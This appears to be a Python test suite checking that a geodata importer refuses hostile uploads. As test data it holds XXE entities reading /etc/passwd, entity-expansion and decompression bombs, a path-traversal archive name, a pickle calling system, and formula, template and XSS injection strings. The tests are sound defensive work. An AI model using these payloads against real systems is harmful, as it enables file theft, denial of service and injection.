"""Files made to do harm: each is refused with its reason, or read as the plain text that it is."""

import gzip
import io
import json
import socket
import sqlite3
import struct
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import shapely

from geo import readers
from geo.importing import importer, report
from geo.limits import LIMITS, Limits, RefusedError, Watch
from geo.readers import geofiles
from geo.values.geometry import GeometryError, from_wkb
from geo.worker import OutOfMemoryError, OutOfTimeError
from tests.readers.conftest import outcomes

SECRET = "the server's own file"

VRT = """<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource>
</OGRVRTLayer></OGRVRTDataSource>"""

ENTITIES = """<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa">{more}]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>{use}</name></Placemark></kml>"""


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Fail at the first socket."""

    def refuse(*_, **__):
        raise AssertionError("a file made us open a socket")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def refused(path: Path, tmp_path: Path, **options) -> tuple[str, str]:
    """Return the code and the sentence with which a file is refused."""
    folder = tmp_path / "work"
    folder.mkdir(exist_ok=True)
    with pytest.raises(RefusedError) as caught:
        readers.read(path, folder, **options)
    return caught.value.code, report.refusal(caught.value, path.name).sentence()


def zipped(**members: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name.replace("__", "."), body)
    return content.getvalue()


def geojson(**members) -> str:
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [44.2, 33.3]},
        "properties": {"title": "x", "date": "2021"},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature], **members})


@pytest.mark.parametrize("name", ["a.vrt", "a.geojson", "a.csv", "a.kml"])
@pytest.mark.parametrize("source", ["secret.csv", "/vsicurl/http://127.0.0.1:9/x.csv"])
def test_a_gdal_vrt_is_refused_whatever_it_is_called(made, tmp_path, name, source):
    made("secret.csv", f"title,date\n{SECRET},2021\n")
    code, sentence = refused(made(name, VRT.format(source=source)), tmp_path)
    assert code == "kind_markup"
    assert SECRET not in sentence
    assert sentence == (
        f"{name}: “<OGRVRTDataSource>” was read; expected KML; this is XML of another kind and may "
        "point to other files. Save the data as GeoJSON, KML or CSV. The file is not used."
    )


def test_a_link_to_a_coordinate_system_is_not_followed(made, tmp_path):
    link = {"type": "link", "properties": {"href": "http://127.0.0.1:9/crs", "type": "proj4"}}
    assert refused(made("a.geojson", geojson(crs=link)), tmp_path)[0] == "crs_link"


def test_a_link_that_stands_after_the_features_is_not_followed_either(made, tmp_path):
    text = geojson()[:-1] + ', "crs": {"type": "link", "properties": {"href": "http://x"}}}'
    assert refused(made("a.geojson", text), tmp_path)[0] == "crs_link"


def test_a_projected_coordinate_system_of_geojson_is_refused(made, tmp_path):
    crs = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32638"}}
    assert refused(made("a.geojson", geojson(crs=crs)), tmp_path)[0] == "crs"


@pytest.mark.parametrize(
    ("more", "use"),
    [
        ("", "&a;"),
        ("".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in ("ab", "bc", "cd", "de")), "&e;"),
        ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        ('<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;', "&a;"),
    ],
)
def test_entities_of_xml_are_refused(made, tmp_path, more, use):
    path = made("a.kml", ENTITIES.format(more=more, use=use))
    assert refused(path, tmp_path)[0] == "xml_doctype"


def test_links_inside_kml_are_counted_and_not_followed(made, imported):
    link = "<NetworkLink><Link><href>http://127.0.0.1:9/more.kml</href></Link></NetworkLink>"
    point = "<Point><coordinates>44,33</coordinates></Point>"
    when = "<TimeStamp><when>2021-06-09</when></TimeStamp>"
    text = f"<kml>{link}<Placemark><name>x</name>{when}{point}</Placemark></kml>"
    found = imported(made("a.kml", text))
    assert found.report.used == 1
    assert found.report.remark_sentences()[0] == "Links to other files are not followed: 1."


def test_xml_that_is_nested_without_end_is_refused(made, tmp_path):
    assert refused(made("a.kml", "<kml>" + "<a>" * 5_000), tmp_path)[0] == "too_deep"


@pytest.mark.parametrize(
    "token", ['<a b="{}"/>', "<a {}/>", "<!--{}-->", "<?a {}?>", "<{}/>"], ids=range(5)
)
def test_a_tag_without_end_is_refused_before_it_is_read(made, tmp_path, token):
    """expat before 2.6 reads what it has of such a tag again with every piece that comes."""
    told: list[float] = []
    size = 8_000_000
    path = made("a.kml", "<kml>" + token.format("a>" * (size // 2)) + "</kml>")
    if token in ("<a {}/>", "<{}/>"):
        path = made("a.kml", "<kml>" + token.format("a" * size) + "</kml>")
    watch = Watch(lambda _, share: told.append(share))
    assert refused(path, tmp_path, watch=watch)[0] == "tag_too_long"
    assert max(told) * size < 1_500_000


def test_a_long_description_is_no_tag_without_end(made, imported):
    text = "long " * 20_000
    when = "<TimeStamp><when>2021</when></TimeStamp>"
    placemark = f"<Placemark><name>x</name><description>{text}</description>{when}</Placemark>"
    comment = f"<!--{text}-->"
    found = imported(made("a.kml", f"<kml>{comment * 20}{placemark}</kml>"))
    assert found.events["summary"].str.len().tolist() == [len(text) - 1]


@pytest.mark.parametrize("nested", ["[" * 100_000, '{"a":' * 100_000])
def test_json_that_is_nested_without_end_is_refused(made, tmp_path, nested):
    assert refused(made("a.json", nested), tmp_path)[0] == "too_deep"


def test_properties_nested_beyond_the_limit_are_refused(made, tmp_path):
    deep = "[" * 100 + "]" * 100
    text = geojson().replace('"x"', deep)
    assert refused(made("a.geojson", text), tmp_path)[0] == "too_deep"


def test_a_geometry_of_too_many_points_is_refused(made, tmp_path):
    ring = [[44 + n / 1e4, 33] for n in range(50)]
    text = json.dumps({"type": "LineString", "coordinates": ring})
    path = made("a.geojson", text)
    assert refused(path, tmp_path, limits=Limits(vertices=40))[0] == "too_many_vertices"


def bomb(megabytes: int) -> bytes:
    """Return a workbook whose one sheet unfolds to so many megabytes of XML."""
    head = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>'
    body = head + row * (megabytes * 1_000_000 // len(row)) + b"</sheetData></worksheet>"
    return zipped(**{"xl/workbook__xml": b"<workbook/>", "xl/worksheets/sheet1__xml": body})


def test_a_workbook_that_unfolds_to_hundreds_of_times_its_size_is_refused(made, tmp_path):
    content = bomb(40)
    assert len(content) < 400_000
    code, sentence = refused(made("a.xlsx", content), tmp_path)
    assert code == "expands"
    assert "at most 1,000,000,000 bytes and 150 times its size" in sentence


def test_a_workbook_with_entities_is_refused(made, tmp_path):
    sheet = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'
    members = {"xl/workbook__xml": b"<workbook/>", "xl/worksheets/sheet1__xml": sheet}
    assert refused(made("a.xlsx", zipped(**members)), tmp_path)[0] == "xml_doctype"


def test_a_workbook_that_is_none_inside_is_refused(made, tmp_path):
    content = zipped(**{"xl/workbook__xml": b"<workbook/>"})
    assert refused(made("a.xlsx", content), tmp_path)[0] == "damaged"


@pytest.mark.parametrize(
    "wrap",
    [gzip.compress, lambda body: zipped(**{"a__csv": body})],
    ids=["gzip", "zip"],
)
def test_an_archive_that_unfolds_without_end_is_refused(made, tmp_path, wrap):
    path = made("a.bin", wrap(b"a,b\n" + b"1,2\n" * 6_000_000))
    assert refused(path, tmp_path)[0] == "expands"


def test_a_directory_that_lies_about_sizes_unfolds_no_further(made, tmp_path):
    content = bytearray(zipped(**{"a__csv": b"a,b\n" + b"1,2\n" * 6_000_000}))
    central = content.rindex(b"PK\x01\x02")
    content[central + 24 : central + 28] = struct.pack("<I", 100)
    local = content.index(b"PK\x03\x04")
    content[local + 22 : local + 26] = struct.pack("<I", 100)
    assert refused(made("a.zip", bytes(content)), tmp_path)[0] in ("damaged", "expands")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (zipped(**{"inner__zip": zipped(**{"a__csv": b"a,b\n1,2\n"})}), "wrapped_twice"),
        (gzip.compress(gzip.compress(b"a,b\n1,2\n")), "wrapped_twice"),
        (zipped(**{"a__csv": b"a,b\n", "b__csv": b"a,b\n"}), "several_inside"),
        (zipped(**{"a__shp": b"\0\0", "a__dbf": b"\3", "notes__csv": b"a,b\n"}), "kind_shapefile"),
        (b"\x00\x00\x27\x0a" + bytes(96), "kind_shapefile"),
        (zipped(**{"a__exe": b"MZ", "b__dll": b"MZ"}), "nothing_inside"),
        (zipped(**{f"{n}__csv": b"x" for n in range(1_001)}), "too_many_members"),
        (b"PK\x03\x04 and nothing more", "damaged"),
        (gzip.compress(b"a,b\n1,2\n" * 1_000)[:-20], "damaged"),
    ],
    ids=[
        "zip in zip",
        "gzip in gzip",
        "two tables",
        "zipped shapefile",
        "shapefile",
        "no table",
        "many",
        "cut zip",
        "cut gzip",
    ],
)
def test_an_archive_holds_one_file_of_data(made, tmp_path, content, code):
    assert refused(made("a.zip", content), tmp_path)[0] == code


def test_a_name_inside_an_archive_never_becomes_a_path(made, tmp_path, imported):
    content = zipped(**{"../../escaped__csv": b"title,date\nx,2021\n"})
    found = imported(made("a.zip", content))
    assert len(found.events) == 1
    assert not list(tmp_path.parent.rglob("escaped*"))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"\x80\x04\x95\x10cposix\nsystem\n", "kind_pickle"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "kind_old_office"),
        (b"%PDF-1.7\n", "kind_pdf"),
        (b"\x89PNG\r\n\x1a\n", "kind_picture"),
        (b"<!doctype html><html><body>Please log in", "kind_page"),
        (bytes(range(256)) * 20, "kind_binary"),
        (b"", "empty"),
    ],
)
def test_what_is_no_table_says_what_it_is(made, tmp_path, content, code):
    assert refused(made("a.csv", content), tmp_path)[0] == code


def test_a_database_that_is_no_geopackage_is_refused(tmp_path):
    path = tmp_path / "a.gpkg"
    base = sqlite3.connect(path)
    base.execute("CREATE TABLE events (title TEXT)")
    base.commit()
    base.close()
    assert refused(path, tmp_path)[0] == "kind_database"


def test_a_view_in_a_geopackage_runs_nothing(tmp_path):
    path = tmp_path / "a.gpkg"
    base = sqlite3.connect(path)
    base.executescript(
        "CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT);"
        "CREATE VIEW events AS SELECT randomblob(1000000000) AS title;"
        "INSERT INTO gpkg_contents VALUES ('events', 'features');"
    )
    base.close()
    assert refused(path, tmp_path)[0] == "no_features"


@pytest.mark.parametrize("head", ["<BII", ">BII"])
@pytest.mark.parametrize("kind", [4, 7, 12, 1007, 2006, 3005, 0x80000007])
def test_a_geometry_nested_without_end_costs_its_row_and_not_the_process(head, kind):
    one = struct.pack(head, head == "<BII", kind, 1)
    with pytest.raises(GeometryError):
        from_wkb(one * 20_000)
    many = shapely.GeometryCollection([shapely.MultiPoint([(at, 1)]) for at in range(80)])
    assert from_wkb(shapely.to_wkb(many)) == many


def test_a_parquet_file_of_too_many_rows_is_refused_before_one_is_read(tmp_path):
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"title": pa.nulls(3_000_000, pa.string())}), path)
    assert refused(path, tmp_path)[0] == "too_many_rows"


def test_a_parquet_file_that_unfolds_to_hundreds_of_times_its_size_is_refused(tmp_path):
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"title": ["x" * 20_000_000]}), path, compression="zstd")
    assert refused(path, tmp_path)[0] == "expands"


@pytest.mark.parametrize(
    ("rows", "length", "code"), [(1, 200_000, "cell_too_long"), (300, 300, "too_many_cells")]
)
def test_a_list_that_says_one_thing_over_and_over_is_refused_before_it_is_read(
    tmp_path, rows, length, code
):
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"title": [[1] * length] * rows}), path)
    assert refused(path, tmp_path, limits=Limits(cells=80_000))[0] == code


def test_a_text_that_many_rows_of_a_parquet_file_repeat_is_held_once(tmp_path):
    path, long = tmp_path / "a.parquet", "x" * 100_000
    pq.write_table(pa.table({"title": [long, "x", None, long] * 2_000}), path)
    with pq.ParquetFile(path, read_dictionary=["title"]) as file:
        (batch,) = file.iter_batches(8_000)
    assert geofiles._texts(batch.column(0), "title", LIMITS).nbytes < 200_000
    column = readers.read(path, tmp_path).column("title")
    assert column.dictionary.to_pylist() == [long, "x", ""]
    assert column.to_pylist()[:4] == [long, "x", "", long]


def test_texts_of_a_parquet_file_that_no_row_has_are_not_read(tmp_path):
    path = tmp_path / "a.parquet"
    coded = pa.DictionaryArray.from_arrays(pa.array([2, 2, 0], pa.int32()), ["a", "b", "a"])
    pq.write_table(pa.table({"title": coded}), path)
    column = readers.read(path, tmp_path).column("title")
    assert (column.dictionary.to_pylist(), column.to_pylist()) == (["a"], ["a", "a", "a"])


def test_columns_of_one_name_in_a_parquet_file_are_told_apart(tmp_path):
    path = tmp_path / "a.parquet"
    columns = [pa.array(["one"]), pa.array(["two"]), pa.array(["2021"])]
    pq.write_table(pa.Table.from_arrays(columns, names=["title", "title", "date"]), path)
    table = readers.read(path, tmp_path)
    assert table.columns.column_names == ["title", "title (2)", "date"]
    assert [cells[0] for cells in table.columns.to_pydict().values()] == ["one", "two", "2021"]


def test_a_damaged_parquet_file_is_refused(made, tmp_path):
    assert refused(made("a.parquet", b"PAR1" + bytes(50) + b"PAR1"), tmp_path)[0] == "damaged"


CANARIES = [
    '=HYPERLINK("http://127.0.0.1:9/?"&A1)',
    "@SUM(1+1)",
    "{{7*7}}",
    "grew 5{% of",
    "{# note",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "`a`+alert(1)+`b`",
    "${alert(1)}",
    "%s %(x)s {0} {detail}",
]


@pytest.mark.parametrize("text", CANARIES)
def test_text_that_could_run_somewhere_stays_text(table, text):
    cell = '"' + text.replace('"', '""') + '"'
    header = f"id,title,date,{cell}"
    found = table(f"{header}\n1,{cell},2021-06-09,{cell}\n2,{cell},{cell},{cell}\n")
    assert found.events["title"][0] == text
    assert [row[:3] for row in outcomes(found)][:1] == [(2, "no_place", "")]
    assert (3, "date", "date") in [row[:3] for row in outcomes(found)]
    assert all(isinstance(one.sentence(), str) for one in found.report.problems())


@pytest.mark.parametrize("text", CANARIES[:2])
def test_rows_set_aside_are_written_without_live_formulas(table, tmp_path, text):
    cell = '"' + text.replace('"', '""') + '"'
    found = table(f"id,title,date\n1,{cell},nonsense\n")
    path = tmp_path / "aside.csv"
    assert report.write_aside(found.report, path) == 1
    assert "'" + text[:4] in path.read_text(encoding="utf-8")


def test_a_file_that_needs_too_much_memory_costs_its_owner_a_message(made):
    names = ",".join(f"c{n}" for n in range(40))
    cells = ",".join(f"{n}-" + "x" * 50 for n in range(40))
    rows = "".join(f"2021-06-09,{number},{cells}\n" for number in range(20_000))
    path = made("a.csv", f"date,id,{names}\n{rows}")
    with pytest.raises(OutOfMemoryError):
        importer.import_file(path, memory_mb=160)


def test_a_file_that_takes_too_long_costs_its_owner_a_message(made):
    path = made("a.csv", "date,title\n" + "2021-06-09,x\n" * 200_000)
    with pytest.raises(OutOfTimeError):
        importer.import_file(path, seconds=0.4)
